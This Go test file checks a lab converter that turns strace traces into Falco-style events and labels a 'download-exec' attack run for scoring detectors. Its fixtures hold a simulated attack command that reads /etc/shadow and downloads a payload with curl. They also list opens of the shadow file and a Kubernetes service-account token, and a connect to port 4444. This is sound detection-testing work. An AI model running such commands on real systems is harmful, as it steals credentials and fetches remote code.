package lab

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// convertGolden converts testdata/golden/<name> (a manifest and its traces).
func convertGolden(t *testing.T, name string) []Event {
	t.Helper()
	dir := filepath.Join("testdata", "golden", name)
	m, err := LoadManifest(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	c := NewConverter(m)
	for _, tr := range m.Traces {
		f, err := os.Open(filepath.Join(dir, tr.File))
		if err != nil {
			t.Fatal(err)
		}
		calls, bad, err := parseTrace(f)
		f.Close()
		if err != nil || bad != 0 {
			t.Fatalf("parse %s: bad lines %d, err %v", tr.File, bad, err)
		}
		c.Add(tr, calls, bad)
	}
	return c.Finish()
}

func TestConvertGolden(t *testing.T) {
	events := convertGolden(t, "basic")
	var buf bytes.Buffer
	if err := WriteNDJSON(&buf, events); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "golden", "basic.ndjson")
	if *update {
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		got := strings.Split(buf.String(), "\n")
		w := strings.Split(string(want), "\n")
		for i := range max(len(got), len(w)) {
			var g, x string
			if i < len(got) {
				g = got[i]
			}
			if i < len(w) {
				x = w[i]
			}
			if g != x {
				t.Fatalf("line %d differs (run with -update after checking):\n got  %s\n want %s", i+1, g, x)
			}
		}
	}
}

// summary of an event for the behaviour checks below.
func brief(e Event) string {
	f := e.OutputFields
	s := f["evt.type"].(string) + " " + strings.ToLower(strings.TrimPrefix(e.Rule, "falco-scorer "))
	for _, k := range []string{"fd.name", "fs.path.name"} {
		if v, ok := f[k]; ok {
			s += " " + k + "=" + anyString(v)
		}
	}
	return s
}

func anyString(v any) string {
	if v == nil {
		return "<nil>"
	}
	return v.(string)
}

func TestConvertFollowsConditions(t *testing.T) {
	events := convertGolden(t, "basic")
	var got []string
	for _, e := range events {
		got = append(got, brief(e))
	}
	want := []string{
		"execve process observation",
		"bind network observation fd.name=127.0.0.3:8000",
		"listen network observation fd.name=127.0.0.3:8000",
		// the CLONE_THREAD clone is not observed; its thread's write open is
		"openat file observation fd.name=/lab/app/log/thread.log fs.path.name=/lab/app/log/thread.log",
		"setgid privilege observation", // the child runs before its parent's clone returns
		"clone process observation",
		"setuid privilege observation",
		"openat file observation fd.name=/lab/app/log/access.log fs.path.name=/lab/app/log/access.log",
		"accept4 network observation fd.name=127.0.0.2:40312->127.0.0.3:8000",
		// the EAGAIN accept4 and the unix connect are not observed
		"connect network observation fd.name=127.0.0.1:51514->127.0.0.4:6379",
		"connect network observation fd.name=", // refused: Falco leaves the socket unnamed
		"openat file observation fd.name=/lab/app/uploads/1-abc.bin fs.path.name=/lab/app/uploads/1-abc.bin",
		"unlink file observation fd.name=<nil> fs.path.name=/lab/app/uploads/0-old.bin",
		"execve process observation", // the failed PATH probe, as the parent still
		"vfork process observation",
		"execve process observation",
		// /dev/null (pseudo-fs, not created) is not observed
		"openat file observation fd.name=/etc/shadow fs.path.name=/etc/shadow",
		// the path as given, not strace's symlink-resolved /run/secrets/...
		"openat file observation fd.name=/var/run/secrets/kubernetes.io/serviceaccount/token fs.path.name=/var/run/secrets/kubernetes.io/serviceaccount/token",
		"openat file observation fd.name=/tmp/.u1 fs.path.name=/tmp/.u1",
		"chmod file observation fd.name=<nil> fs.path.name=/tmp/.u1",
		"openat file observation fd.name=/etc/passwd fs.path.name=/etc/passwd", // lab rootfs shown as /
		"openat file observation fd.name=/etc/shadow fs.path.name=/etc/shadow",
		"rename file observation fd.name=<nil> fs.path.name=<nil>",
		// umount2 is evt.type umount2 in Falco, which the rules do not list
		"setresuid privilege observation",
		"connect network observation fd.name=0.0.0.0:0->127.0.0.9:4444", // never closed, no traced peer
		"procexit process observation",
		"procexit process observation",
		"procexit process observation",
	}
	if !slices.Equal(got, want) {
		t.Errorf("events:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestConvertProcessFields(t *testing.T) {
	events := convertGolden(t, "basic")
	find := func(pred func(map[string]any) bool) map[string]any {
		t.Helper()
		for _, e := range events {
			if pred(e.OutputFields) {
				return e.OutputFields
			}
		}
		t.Fatal("no such event")
		return nil
	}
	shadow := find(func(f map[string]any) bool { return f["fd.name"] == "/etc/shadow" })
	want := map[string]any{
		"proc.name": "sh", "proc.pid": 103, "proc.ppid": 102, "proc.pname": "python3.11", "proc.exepath": "/bin/sh",
		"proc.cmdline": "sh -c cat /etc/shadow; curl -s -o /tmp/.u1 http://127.0.0.9:8081/p", "user.name": "nobody", "user.uid": 65534,
		"evt.res": "EACCES", "container.id": "a1b2c3d4e5f6", "k8s.ns.name": "shop",
	}
	for k, v := range want {
		if shadow[k] != v {
			t.Errorf("sensitive open %s = %v, want %v", k, shadow[k], v)
		}
	}
	root := find(func(f map[string]any) bool { return f["evt.type"] == "execve" && f["proc.pid"] == 100 })
	if root["proc.pname"] != "containerd-shim" || root["proc.cmdline"] != "python3.11 /lab/app/app.py" || root["user.name"] != "root" {
		t.Errorf("container init fields = %v", root)
	}
	exit := find(func(f map[string]any) bool { return f["evt.type"] == "procexit" })
	if exit["evt.res"] != nil {
		t.Errorf("procexit evt.res = %v, want null (an enter event)", exit["evt.res"])
	}
	for _, e := range events {
		if _, err := time.Parse(time.RFC3339Nano, e.Time); err != nil || len(e.Time) != len("2026-12-07T07:03:08.000100000Z") {
			t.Errorf("time %q: want RFC 3339 with nine fraction digits", e.Time)
		}
		if !strings.HasPrefix(e.Output, e.Time[11:29]+": Debug falco-scorer observation evt_type=") {
			t.Errorf("output %q: want Falco's time and priority prefix", e.Output)
		}
	}
}

func TestLabelsFromRuns(t *testing.T) {
	dir := filepath.Join("testdata", "golden", "basic")
	out := t.TempDir()
	sum, err := ConvertDir(dir, out)
	if err != nil {
		t.Fatal(err)
	}
	l, err := LoadLabels(filepath.Join(out, LabelsFile))
	if err != nil {
		t.Fatal(err)
	}
	if len(l.Runs) != 1 || !slices.Equal(l.Runs[0].PIDs, []int{103}) || l.Runs[0].ContainerID != "a1b2c3d4e5f6" {
		t.Fatalf("runs = %+v, want download-exec-1 with pid 103 in a1b2c3d4e5f6", l.Runs)
	}
	r := l.Runs[0]
	at := r.Start.Add(time.Microsecond * 100)
	if got := l.Lookup("a1b2c3d4e5f6", 103, at); got == nil || got.Run != "download-exec-1" {
		t.Errorf("Lookup(attack pid) = %v, want download-exec-1", got)
	}
	if got := l.Lookup("a1b2c3d4e5f6", 102, at); got != nil {
		t.Errorf("Lookup(worker pid) = %v, want nil (normal)", got.Run)
	}
	if got := l.Lookup("a1b2c3d4e5f6", 103, r.End.Add(time.Hour)); got != nil {
		t.Errorf("Lookup(attack pid an hour later) = %v, want nil (pid reused)", got.Run)
	}
	if got := l.ImageOf("a1b2c3d4e5f6"); got != "ghcr.io/falco-lab/shop-api@sha256:1111111111111111111111111111111111111111111111111111111111111111" {
		t.Errorf("ImageOf = %q", got)
	}
	if !l.InTest(r.Start) || l.InTest(l.LearnStart) {
		t.Errorf("InTest(run start) = %v, InTest(learn start) = %v", l.InTest(r.Start), l.InTest(l.LearnStart))
	}
	if sum.Scenarios["download-exec"] != 1 || len(sum.Images) != 1 || sum.Images[0].AttackProcs != 1 {
		t.Errorf("summary = %+v", sum)
	}
}

func TestLoadLabelsRejects(t *testing.T) {
	p := filepath.Join(t.TempDir(), "l.json")
	for name, body := range map[string]string{
		"version": `{"version":2,"test_start":"2026-01-01T00:00:00Z"}`,
		"kind":    `{"version":1,"test_start":"2026-01-01T00:00:00Z","runs":[{"kind":"bad","container_id":"x"}]}`,
		"json":    `{`,
	} {
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := LoadLabels(p); err == nil {
			t.Errorf("%s: LoadLabels accepted %s", name, body)
		}
	}
}
